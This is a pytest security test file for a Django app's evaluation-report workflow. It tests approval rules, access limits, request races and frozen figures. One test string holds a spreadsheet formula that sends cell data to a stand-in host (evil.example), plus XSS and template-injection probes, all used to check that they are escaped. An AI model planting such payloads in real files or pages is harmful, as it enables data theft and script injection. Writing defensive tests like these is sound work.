"""The case analysis and evaluation reports attacked from outside: who gets in through which door (pages, API, files,
notices, the admin site), what a reader learns that they may not, the steps raced, replayed and refused, hostile
text in the lessons and the return notes, and the figures frozen at approval. Every refusal leaves the report as it
was."""

import io
import re
import threading
from collections import Counter
from html import unescape

import openpyxl
import pytest
from django.contrib.admin.sites import site
from django.core.exceptions import PermissionDenied
from django.db import connection
from django.urls import reverse
from django.utils import translation
from pypdf import PdfReader

from accounts import services as account_services
from accounts.models import Membership, Role
from accounts.selectors import actor_for
from analysis import evaluation, evaluation_files, policy, services
from analysis.choices import EvaluationState
from analysis.evaluation_views import reading_of
from analysis.models import LESSONS_MAX, EvaluationReport, OfficerStrength
from cases import selectors as case_selectors
from cases import services as case_services
from cases.models import Notification, Suspect
from tests.analysis.dataset import at, filed
from tests.analysis.evaluation_dataset import N1, evaluation_dataset
from tests.analysis.test_evaluation_steps import LESSONS, NOW, state_of
from tests.api.conftest import token_client
from tests.conftest import reauthenticated
from tests.factories import UserFactory, member
from tests.reports.dataset import clock

LIST = "/analysis/evaluations/"
API = "/api/v1/analysis/evaluations/"


def page(report: EvaluationReport) -> str:
    return f"{LIST}{report.pk}/"


def post(client, user, url, data):
    client.force_login(user)
    with translation.override("en"):
        return client.post(url, data, HTTP_ACCEPT_LANGUAGE="en")


def text(response) -> str:
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", response.content.decode())).split())


def loaded(report: EvaluationReport) -> EvaluationReport:
    return EvaluationReport.objects.select_related(
        "unit", "created_by", "written_by", "submitted_by", "approved_by", "returned_by"
    ).get(pk=report.pk)


def pdf_text(raw: bytes) -> str:
    reader = PdfReader(io.BytesIO(raw))
    return " ".join(" ".join(p.extract_text() for p in reader.pages).split())


def file_of(report: EvaluationReport, fmt: str, reader) -> bytes:
    report = loaded(report)
    with translation.override("en"):
        return evaluation_files.render_file(report, reading_of(report, actor_for(reader)), fmt)


def workbook_values(raw: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    return [v for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row if v is not None]


@pytest.fixture
def report(world):
    with clock(NOW):
        return services.start_evaluation(unit=world.county, year=2025, quarter=2, by=world.county_supervisor)[0]


@pytest.fixture
def second(world):
    """The county's second supervisor."""
    return member(world.county, Role.SUPERVISOR, username="second_county_supervisor")


def submit(report, by, lessons=LESSONS) -> EvaluationReport:
    with clock(NOW):
        return services.submit_evaluation(report=report, by=by, lessons=lessons)


# --- four eyes --------------------------------------------------------------------------------------------------------


def test_the_first_submitter_does_not_approve_after_a_return_and_someone_else_s_resubmission(
    client, world, report, second
):
    """A writes and submits; the city returns it; B sends it again without a word changed: A wrote and submitted what
    is now waiting, so A is still one of the four eyes' first pair and does not approve it — through any door."""
    first = submit(report, world.county_supervisor)
    with clock(NOW):
        back = services.return_evaluation(report=first, by=world.supervisor, note="请补充整改措施")
        again = services.submit_evaluation(report=back, by=second)
    assert again.submitted_by == second
    before = state_of(again)
    assert policy.can_approve_evaluation(actor_for(world.county_supervisor), again) is False
    with pytest.raises(PermissionDenied, match="You wrote or submitted this report"):
        services.approve_evaluation(report=again, by=world.county_supervisor)
    api = token_client(world.county_supervisor)
    assert api.post(f"{API}{again.pk}/approve/", {"version": again.version}, format="json").status_code == 403
    assert api.post(
        f"{API}{again.pk}/return/", {"note": "退回", "version": again.version}, format="json"
    ).status_code == (403)
    refused = post(client, world.county_supervisor, f"{page(again)}approve/", {"approve-version": again.version})
    assert refused.status_code == 403
    assert state_of(again) == before
    # Those told that it waits may approve it: the county's second supervisor the first time, the city the second,
    # since both county supervisors now had a hand in it.
    told = Notification.objects.filter(params__event="submitted").order_by("id")
    assert [n.recipient_id for n in told] == [second.pk, world.supervisor.pk]
    # Someone with no hand in it does.
    with clock(NOW):
        done = services.approve_evaluation(report=again, by=world.supervisor, expected_version=again.version)
    assert (done.state, done.approved_by) == (EvaluationState.APPROVED, world.supervisor)


def test_the_writer_does_not_approve_what_a_colleague_only_submitted(world, report, second):
    """A writes the lessons through the API, B only presses submit: A does not approve A's own text."""
    writer = token_client(world.county_supervisor)
    assert writer.patch(f"{API}{report.pk}/", {"lessons": LESSONS, "version": 1}, format="json").status_code == 200
    done = token_client(second).post(f"{API}{report.pk}/submit/", {"version": 2}, format="json")
    assert (done.status_code, done.json()["written_by"]["id"], done.json()["submitted_by"]["id"]) == (
        200,
        world.county_supervisor.pk,
        second.pk,
    )
    waiting = EvaluationReport.objects.get(pk=report.pk)
    before = state_of(waiting)
    assert writer.post(f"{API}{report.pk}/approve/", {"version": 3}, format="json").status_code == 403
    assert state_of(waiting) == before
    assert policy.approvers_to_tell(world.county, waiting.authors) == [world.supervisor.pk]
    assert list(Notification.objects.values_list("recipient_id", flat=True)) == [world.supervisor.pk]


def test_saving_the_same_text_again_makes_no_one_an_author(world, report, second):
    """Pressing Save on a text one did not change is not writing it: it takes nobody's approval away."""
    with clock(NOW):
        services.save_lessons(report=report, by=world.county_supervisor, lessons=LESSONS)
        saved = services.save_lessons(report=EvaluationReport.objects.get(pk=report.pk), by=second, lessons=LESSONS)
    assert (saved.written_by, saved.authors) == (world.county_supervisor, [world.county_supervisor.pk])


# --- what a reader learns ---------------------------------------------------------------------------------------------


@pytest.fixture
def two_counties(world):
    """The city with a second county: a suspect of a station case of the quarter (ID N1) was a suspect of a case of
    the second county in 2024. The reader supervises the first county and administers the city."""
    county2 = account_services.create_org_unit(code="330108", name="滨江区分局", level="county", parent=world.city)
    officer2 = member(county2, Role.OFFICER, username="binjiang_officer")
    earlier = filed(world, county2, officer2, at(2024, 3, 10), occurred=at(2024, 3, 9))
    now = filed(world, world.station, world.officer, at(2025, 5, 10), occurred=at(2025, 5, 9))
    with clock(at(2025, 5, 11)):
        case_services.add_suspect(case=earlier, by=world.supervisor, name="李四", id_number=N1)
        case_services.add_suspect(case=now, by=world.supervisor, name="李四", id_number=N1)
    mixed = member(world.county, Role.SUPERVISOR, username="county_supervisor_and_city_admin")
    account_services.grant_membership(user=mixed, unit=world.city, role=Role.ADMIN)
    with clock(NOW):
        city_report = services.start_evaluation(unit=world.city, year=2025, quarter=2, by=world.supervisor)[0]
    return county2, now, mixed, city_report


def test_a_reader_covering_part_of_the_area_is_not_told_matches_on_numbers_they_do_not_read(
    client, world, two_counties
):
    """The city's report counts the suspect's earlier case in the other county. A county supervisor who also
    administers the city reads the city's report, but not the other county's ID numbers: the case page tells them of
    no earlier case, and the report must not tell them of one either (live or frozen, page, API or file)."""
    _county2, case, mixed, city_report = two_counties
    assert case_selectors.earlier_cases_against_police(actor_for(mixed), case) == []
    boss = token_client(world.supervisor).get(f"{API}{city_report.pk}/").json()["figures"]["repeat_attackers"]
    assert boss["listed"] == [{"case": case.pk, "reference": case.reference, "suspect": "李某", "earlier_cases": 1}]
    assert token_client(mixed).get(f"{API}{city_report.pk}/").json()["figures"]["repeat_attackers"]["listed"] == []
    client.force_login(mixed)
    assert case.reference not in text(client.get(page(city_report)))
    submit(city_report, world.supervisor)
    with clock(NOW):
        services.approve_evaluation(report=city_report, by=world.ministry_supervisor)
    assert token_client(mixed).get(f"{API}{city_report.pk}/").json()["figures"]["repeat_attackers"]["listed"] == []
    assert case.reference not in pdf_text(file_of(city_report, "pdf", mixed))
    assert case.reference not in workbook_values(file_of(city_report, "xlsx", mixed))
    # Their own county's report, whose every number they read, names the case: the earlier case is not the county's.
    with clock(NOW):
        county_report = services.start_evaluation(unit=world.county, year=2025, quarter=2, by=mixed)[0]
    own = token_client(mixed).get(f"{API}{county_report.pk}/").json()["figures"]["repeat_attackers"]
    assert own == {"cases": 0, "suspects": 0, "listed": []}


def test_a_supervisor_of_a_unit_below_does_not_reach_the_unit_s_report(client, world, two_counties):
    _county2, _case, _mixed, city_report = two_counties
    before = state_of(city_report)
    client.force_login(world.county_supervisor)
    assert client.get(page(city_report)).status_code == 404
    reauthenticated(client)
    assert client.get(reverse("analysis:evaluation-file", args=[city_report.pk, "pdf"])).status_code == 404
    assert client.get(LIST, {"unit": world.city.code}).status_code == 404
    api = token_client(world.county_supervisor)
    assert api.get(f"{API}{city_report.pk}/").status_code == 404
    assert api.get(API, {"unit": world.city.pk}).status_code == 404
    assert api.patch(f"{API}{city_report.pk}/", {"lessons": "改"}, format="json").status_code == 404
    assert api.post(f"{API}{city_report.pk}/submit/").status_code == 404
    assert post(
        client, world.county_supervisor, f"{page(city_report)}lessons/", {"lessons-version": 1}
    ).status_code == (404)
    assert state_of(city_report) == before


def test_the_admin_site_does_not_list_the_reports(client, report):
    assert EvaluationReport not in site._registry
    client.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
    admin_client = client
    assert admin_client.get("/admin/analysis/evaluationreport/").status_code == 404
    assert admin_client.get(f"/admin/analysis/evaluationreport/{report.pk}/change/").status_code == 404


def test_an_administrator_s_files_and_api_list_no_warning_they_cannot_open(world, report):
    data = evaluation_dataset(world)
    submit(report, world.county_supervisor)
    with clock(NOW):
        services.approve_evaluation(report=EvaluationReport.objects.get(pk=report.pk), by=world.supervisor)
    figures = token_client(world.admin).get(f"{API}{report.pk}/").json()["figures"]
    assert [w["id"] for w in figures["warnings"]] == [data.unit_rise.pk]
    assert [(w["kind"], w["raised"]) for w in figures["warnings_by_kind"] if w["raised"]] == [("unit_rise", 1)]
    assert data.a3.reference not in pdf_text(file_of(report, "pdf", world.admin))
    assert data.a3.reference not in str(workbook_values(file_of(report, "xlsx", world.admin)))


# --- people who lost their place --------------------------------------------------------------------------------------


def test_a_membership_removed_between_the_page_and_the_step_takes_no_step(client, world, report, second):
    waiting = submit(report, world.county_supervisor)
    client.force_login(second)
    assert 'id="approve-form"' in client.get(page(waiting)).content.decode()
    account_services.revoke_membership(membership=Membership.objects.get(user=second, unit=world.county))
    before = state_of(waiting)
    # Without a role, the reports are not for them at all (403), whichever door.
    assert post(client, second, f"{page(waiting)}approve/", {"approve-version": waiting.version}).status_code == 403
    assert token_client(second).post(f"{API}{waiting.pk}/approve/").status_code == 403
    assert state_of(waiting) == before


def test_a_deactivated_supervisor_takes_no_step(client, world, report, second):
    waiting = submit(report, world.county_supervisor)
    api = token_client(second)
    account_services.deactivate_user(user=second)
    before = state_of(waiting)
    assert api.post(f"{API}{waiting.pk}/approve/").status_code == 401
    client.force_login(second)
    answer = client.post(f"{page(waiting)}approve/", {"approve-version": waiting.version})
    assert (answer.status_code, answer["Location"].split("?")[0]) == (302, "/accounts/login/")
    with pytest.raises(PermissionDenied):
        services.approve_evaluation(report=waiting, by=second)
    assert state_of(waiting) == before


# --- races ------------------------------------------------------------------------------------------------------------

CLIENTS = 8


def race(send) -> list[tuple[int, dict]]:
    barrier = threading.Barrier(CLIENTS)
    answers: list[tuple[int, dict]] = [(0, {})] * CLIENTS

    def run(i: int) -> None:
        try:
            barrier.wait(timeout=60)
            response = send(i)
            answers[i] = (response.status_code, response.json())
        finally:
            connection.close()

    threads = [threading.Thread(target=run, args=(i,)) for i in range(CLIENTS)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert not any(t.is_alive() for t in threads)
    return answers


@pytest.mark.django_db(transaction=True)
def test_a_period_started_by_many_at_once_is_one_report(postgres_only, world):
    clients = [token_client(world.county_supervisor if i % 2 else world.supervisor) for i in range(CLIENTS)]
    body = {"unit": world.county.pk, "year": 2025, "quarter": 2}
    answers = race(lambda i: clients[i].post(API, body, format="json"))
    assert Counter(status for status, _ in answers) == Counter({201: 1, 200: CLIENTS - 1})
    assert {answer["id"] for _, answer in answers} == {EvaluationReport.objects.get().pk}


@pytest.mark.django_db(transaction=True)
def test_approvals_sent_at_once_approve_once(postgres_only, world):
    report = services.start_evaluation(unit=world.county, year=2025, quarter=2, by=world.county_supervisor)[0]
    report = services.submit_evaluation(report=report, by=world.county_supervisor, lessons=LESSONS)
    clients = [token_client(world.supervisor if i % 2 else world.ministry_supervisor) for i in range(CLIENTS)]
    answers = race(lambda i: clients[i].post(f"{API}{report.pk}/approve/", {}, format="json"))
    assert Counter(status for status, _ in answers) == Counter({200: 1, 409: CLIENTS - 1})
    assert {a["code"] for status, a in answers if status == 409} == {"illegal_transition"}
    done = EvaluationReport.objects.get()
    assert (done.state, done.version) == (EvaluationState.APPROVED, 3)
    assert Notification.objects.filter(params__event="approved").count() == 1


# --- careless and hostile text ----------------------------------------------------------------------------------------


def test_lessons_at_the_browser_s_limit_with_line_breaks_are_saved(client, world, report):
    """A textarea counts a line break as one character against its maxlength, and sends it as two (CR LF): a text the
    browser let the writer type in full is saved in full, with its line breaks as one character each."""
    lines = ["字" * 99] * 200
    # As the browser sends it: 200 × 99 + 1 characters and 199 line breaks, 20,000 in the textarea, 20,199 sent.
    typed = "\r\n".join(lines) + "字"
    assert (len(typed.replace("\r\n", "\n")), len(typed)) == (LESSONS_MAX, LESSONS_MAX + 199)
    response = post(
        client, world.county_supervisor, f"{page(report)}lessons/", {"lessons-version": 1, "lessons-lessons": typed}
    )
    assert response.status_code == 302
    assert EvaluationReport.objects.get(pk=report.pk).lessons == typed.replace("\r\n", "\n")


def test_a_return_note_at_the_browser_s_limit_with_line_breaks_is_taken(client, world, report):
    waiting = submit(report, world.county_supervisor)
    before = state_of(waiting)
    too_long = "改" * 2001
    refused = post(
        client,
        world.supervisor,
        f"{page(waiting)}return/",
        {"return-version": waiting.version, "return-note": too_long},
    )
    assert refused.status_code == 400
    field = re.search(r'<textarea name="return-note"[^>]*>(.*?)</textarea>', refused.content.decode(), re.S)
    assert field is not None
    assert (field.group(1).strip(), 'aria-invalid="true"' in field.group(0)) == (too_long, True)
    assert 'maxlength="2000"' in field.group(0)
    assert "Keep the note to 2000 characters." in text(refused)
    assert state_of(waiting) == before
    typed = "\r\n".join(["改"] * 1000)  # 1,999 in the textarea, 2,998 as sent
    response = post(
        client, world.supervisor, f"{page(waiting)}return/", {"return-version": waiting.version, "return-note": typed}
    )
    assert response.status_code == 302
    assert EvaluationReport.objects.get(pk=report.pk).return_note == typed.replace("\r\n", "\n")


def test_too_long_lessons_are_refused_beside_the_field_with_the_text_kept(client, world, report):
    before = state_of(report)
    typed = "<script>alert(1)</script>" + "字" * LESSONS_MAX
    response = post(
        client, world.county_supervisor, f"{page(report)}submit/", {"lessons-version": 1, "lessons-lessons": typed}
    )
    assert response.status_code == 400
    html = response.content.decode()
    field = re.search(r'<textarea name="lessons-lessons"[^>]*>(.*?)</textarea>', html, re.S)
    assert field is not None
    assert unescape(field.group(1)).strip() == typed
    assert 'aria-invalid="true"' in field.group(0)
    assert "Keep the lessons and measures to 20000 characters; this text has 20025." in text(response)
    assert state_of(report) == before


def test_the_api_changes_the_lessons_only_and_refuses_steps_out_of_turn(world, report, second):
    """A client sending the state, the figures, an approver or the authors along with the lessons changes only the
    lessons; a return without a note, or a step on a report whose period is not over, writes nothing."""
    api = token_client(world.county_supervisor)
    forged = {
        "lessons": LESSONS,
        "version": 1,
        "state": "approved",
        "figures": {"cases": {"current": 0, "previous": 0}},
        "approved_by": world.county_supervisor.pk,
        "authors": [],
        "submitted_by": second.pk,
    }
    assert api.patch(f"{API}{report.pk}/", forged, format="json").status_code == 200
    done = EvaluationReport.objects.get(pk=report.pk)
    assert (done.state, done.lessons, done.figures, done.approved_by, done.submitted_by, done.authors) == (
        EvaluationState.DRAFT,
        LESSONS,
        {},
        None,
        None,
        [world.county_supervisor.pk],
    )
    assert api.post(f"{API}{report.pk}/submit/", {"version": 2}, format="json").status_code == 200
    waiting = state_of(report)
    boss = token_client(second)
    for body in ({"version": 3}, {"version": 3, "note": ""}, {"version": 3, "note": " \n\t "}):
        assert boss.post(f"{API}{report.pk}/return/", body, format="json").status_code == 400
    assert state_of(report) == waiting
    with clock(NOW):
        running = services.start_evaluation(unit=world.county, year=2026, quarter=1, by=world.county_supervisor)[0]
    api.patch(f"{API}{running.pk}/", {"lessons": LESSONS, "version": 1}, format="json")
    before = state_of(running)
    with clock(NOW):
        refused = api.post(f"{API}{running.pk}/submit/", {"version": 2}, format="json")
        assert boss.post(f"{API}{running.pk}/approve/", {"version": 2}, format="json").status_code == 409
    assert (refused.status_code, refused.json()["errors"]) == (
        400,
        {"non_field_errors": ["The period ends on 31 Mar 2026: submit the report once it is over."]},
    )
    assert state_of(running) == before


HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"点此")\n@SUM(1)\n{{7*7}} {% debug %}\n<script>alert(1)</script>\n\u202eabc'
)


def test_hostile_lessons_and_note_through_the_api_read_as_themselves_everywhere(client, world, report):
    api = token_client(world.county_supervisor)
    assert api.patch(f"{API}{report.pk}/", {"lessons": "a\x00b", "version": 1}, format="json").status_code == 400
    surrogate = b'{"lessons": "\\ud800", "version": 1}'  # a lone surrogate, as JSON may spell it
    assert api.patch(f"{API}{report.pk}/", surrogate, content_type="application/json").status_code == 400
    assert state_of(report)[:3] == (EvaluationState.DRAFT, 1, "")
    assert api.patch(f"{API}{report.pk}/", {"lessons": HOSTILE, "version": 1}, format="json").status_code == 200
    assert api.post(f"{API}{report.pk}/submit/", {"version": 2}, format="json").status_code == 200
    boss = token_client(world.supervisor)
    note = "<b>重写</b> {{7*7}} =1+1 \u202e"
    assert boss.post(f"{API}{report.pk}/return/", {"note": "\x00", "version": 3}, format="json").status_code == 400
    assert boss.post(
        f"{API}{report.pk}/return/", {"note": "\u200b\u202e", "version": 3}, format="json"
    ).status_code == (400)
    assert boss.post(f"{API}{report.pk}/return/", {"note": note, "version": 3}, format="json").status_code == 200
    client.force_login(world.county_supervisor)
    html = client.get(page(report)).content.decode()
    assert "&lt;b&gt;重写&lt;/b&gt; {{7*7}} =1+1" in html
    assert "49" not in text(client.get(page(report))).split("Lessons and measures")[-1][:200]
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    pdf = pdf_text(file_of(report, "pdf", world.county_supervisor))
    assert (
        '=HYPERLINK("http://evil.example/?"&A1,"点此") @SUM(1) {{7*7}} {% debug %} <script>alert(1)</script> abc' in pdf
    )
    wb = openpyxl.load_workbook(io.BytesIO(file_of(report, "xlsx", world.county_supervisor)))
    cells = [c for row in wb["Lessons and measures"].iter_rows(min_row=3) for c in row]
    assert [(c.value, c.data_type) for c in cells] == [(line, "s") for line in HOSTILE.splitlines()]
    # The notices say who did what, never what was written.
    sentences = [n.params for n in Notification.objects.all()]
    assert all("重写" not in str(p) and "HYPERLINK" not in str(p) for p in sentences)


# --- frozen figures ---------------------------------------------------------------------------------------------------


def test_after_approval_nothing_in_the_report_moves_before_it_everything_does(client, world, report):
    data = evaluation_dataset(world)
    submit(report, world.county_supervisor)
    reader = token_client(world.county_supervisor)
    live = reader.get(f"{API}{report.pk}/").json()["figures"]

    def change_the_cases(day: int) -> None:
        filed(world, world.station, world.officer, at(2025, 6, day), occurred=at(2025, 6, day - 1))
        suspect = Suspect.objects.get(case=data.a1)
        case_services.update_suspect(suspect=suspect, by=world.supervisor, name="赵六")
        OfficerStrength.objects.filter(unit=world.county, year=2025).update(regular=300)

    change_the_cases(20)
    moved = reader.get(f"{API}{report.pk}/").json()["figures"]
    assert (live["cases"]["current"], moved["cases"]["current"]) == (5, 6)
    assert moved["repeat_attackers"]["listed"][0]["suspect"] == "赵某"
    assert moved["officer_strength"]["current"] == 350
    with clock(NOW):
        services.approve_evaluation(report=EvaluationReport.objects.get(pk=report.pk), by=world.supervisor)
    frozen = reader.get(f"{API}{report.pk}/").json()["figures"]
    client.force_login(world.county_supervisor)
    page_before = text(client.get(page(report)))
    xlsx_before = workbook_values(file_of(report, "xlsx", world.county_supervisor))
    change_the_cases(21)
    with clock(NOW):
        services.resolve_warning(warning=data.unit_rise, by=world.county_supervisor, note="已整改")
    assert reader.get(f"{API}{report.pk}/").json()["figures"] == frozen
    assert text(client.get(page(report))) == page_before
    assert workbook_values(file_of(report, "xlsx", world.county_supervisor)) == xlsx_before
    assert (frozen["cases"]["current"], frozen["officer_strength"]["current"]) == (6, 350)
    assert [(w["id"], w["state"]) for w in frozen["warnings"]] == [
        (data.unit_rise.pk, "acknowledged"),
        (data.repeat.pk, "open"),
    ]
    assert evaluation.compute(unit=world.county, year=2025, quarter=2)["cases"]["current"] == 7


def test_stale_return_keeps_the_note_typed(client, world, report):
    waiting = submit(report, world.county_supervisor)
    with clock(NOW):
        services.approve_evaluation(report=waiting, by=world.ministry_supervisor)
    before = state_of(waiting)
    response = post(
        client,
        world.supervisor,
        f"{page(waiting)}return/",
        {"return-version": waiting.version, "return-note": "请补充<b>"},
    )
    assert response.status_code == 409
    assert "请补充&lt;b&gt;</textarea>" in response.content.decode()
    assert state_of(waiting) == before
